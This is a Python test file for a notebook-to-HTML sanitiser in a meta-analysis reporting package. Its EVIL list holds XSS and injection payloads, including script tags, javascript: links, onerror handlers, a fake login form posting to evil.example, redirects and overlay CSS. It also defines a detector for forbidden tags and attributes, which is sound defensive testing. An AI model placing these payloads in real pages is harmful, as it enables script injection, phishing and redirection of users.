"""What a notebook of somebody else may show on a page."""

from __future__ import annotations

import re
from html import unescape
from html.parser import HTMLParser

import nbformat
import pytest

import metanet as mn
from metanet.reporting.documents.export import page_body
from metanet.reporting.documents.harmless import harmless_html, is_harmless_drawing
from metanet.writing.table.html import STYLE

EVIL = [
    '<meta http-equiv="refresh" content="0; url=https://evil.example">',
    '<base href="https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<div style="position:fixed;inset:0;background:red">over</div>',
    '<div style="margin:0 0 -1000px">over</div>',
    '<div style="margin-top:-1000px;z-index:9;transform:scale(9)">over</div>',
    "<style>main { display: none }</style>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVa\tScript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//evil.example/x">x</a>',
    '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<img src="https://evil.example/pixel.png" onerror="alert(1)">',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style>* { position: fixed }</style></svg>",
    '<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe></iframe></body></foreignObject></svg>',
    '<svg onload="alert(1)"></svg>',
    '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    "<script>alert(1)</script>",
    "<template><img src=x onerror=alert(1)></template>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    """<p title='<svg><desc>" onmouseover=alert(1) x="</desc></svg>'>x</p>""",
]
FORBIDDEN = set(
    str.split("meta base link form input button iframe object embed script template math foreignobject textarea select noscript")
)


class Reader(HTMLParser):
    """What is wrong with the elements and attributes that a browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[object] = []

    def handle_starttag(self, tag, attributes):
        self.wrong += [tag] if tag in FORBIDDEN else []
        for name, value in attributes:
            value = (value or "").strip()
            bad = name.startswith("on") or name in ("srcdoc", "action", "formaction")
            bad |= name.endswith("href") and not re.match(r"https?:|mailto:|#|(?!//)[\w./-]+(?:[?#]|$)", value)
            bad |= name == "src" and not re.match(r"data:image/(png|jpeg|gif|webp|svg\+xml);base64,|(?!//)[\w./-]+$", value)
            bad |= name == "style" and bool(re.search(r"position|z-index|transform|inset|-\d|url\(", value))
            bad |= "evil.example" in value and name in ("src", "href")
            self.wrong += [(tag, name, value)] if bad else []

    def handle_data(self, data):
        # The content of a style, which is no text to a browser.
        if self.lasttag == "style" and data.strip() and "metanet" not in data and "font-face" not in data:
            self.wrong.append(data)


def wrong_in(html: str) -> list[object]:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.wrong


OURS = '<div class="metanet metanet-card">{}</div>'


@pytest.mark.parametrize("evil", EVIL)
@pytest.mark.parametrize("around", ["{}", OURS, OURS + "{}"])
def test_what_could_harm_a_reader_is_removed(evil, around):
    assert wrong_in(around.replace("{}", evil)) or "svg" in evil, "the reader of this test sees it"
    cleaned = harmless_html(around.replace("{}", evil))
    assert not wrong_in(cleaned), cleaned
    assert "metanet-aside" not in cleaned


@pytest.mark.parametrize("evil", EVIL)
def test_it_is_removed_wherever_a_notebook_has_it(evil):
    """In a cell of text, in an output of the notebook's own, in one that looks like ours, and in a drawing that claims to be ours."""
    book = nbformat.v4.new_notebook()
    shown = [evil, OURS.format(evil)]
    outputs = [nbformat.v4.new_output("display_data", {"text/html": text}) for text in shown]
    drawn = nbformat.v4.new_output("display_data", {"image/svg+xml": f"<svg>{evil}</svg>"})
    drawn["metadata"] = {"image/svg+xml": {"metanet": {"alt": "A", "title": "B", "words": "C"}}}
    book.cells = [nbformat.v4.new_markdown_cell(f"# Head\n\n{evil}"), nbformat.v4.new_code_cell("1", outputs=[*outputs, drawn])]
    body = page_body(book)
    # In a picture in the page nothing runs.
    assert not wrong_in(body), body


def test_what_this_package_writes_stays():
    rates = mn.load_evidence().rates("objective_response", modality="TARE")
    fit = mn.pool(rates)
    for shown in (fit, mn.study_table(rates), mn.characteristics_table(rates), mn.leave_one_out(fit), mn.source_table(rates)):
        html = shown._repr_html_()
        cleaned = harmless_html(html)
        assert cleaned.count(f"<style>{STYLE}</style>") == html.count(f"<style>{STYLE}</style>")
        texts = [unescape(re.sub(r"<style>.*?</style>|<[^>]*>", "", each)) for each in (cleaned, html)]
        assert texts[0] == texts[1]
        for kept in ("class=", "data-label=", "<a href=", "scope=", "<svg", "style="):
            assert cleaned.count(kept) == html.count(kept), kept


@pytest.mark.parametrize(
    "link", ["https://doi.org/10.1/x?a=1#b", "mailto:a@b.example", "#part", "report.pdf", "../index.html", "a/b.csv#x"]
)
def test_links_to_pages_mails_and_files_stay(link):
    assert f'href="{link}"' in harmless_html(f'<a href="{link}">x</a>')


def test_drawings_of_ours_are_harmless():
    import io

    fit = mn.pool(events=[1, 2, 5], total=[9, 9, 11])
    file = io.BytesIO()
    fit.forest().get_figure(root=True).savefig(file, format="svg")
    assert is_harmless_drawing(file.getvalue())
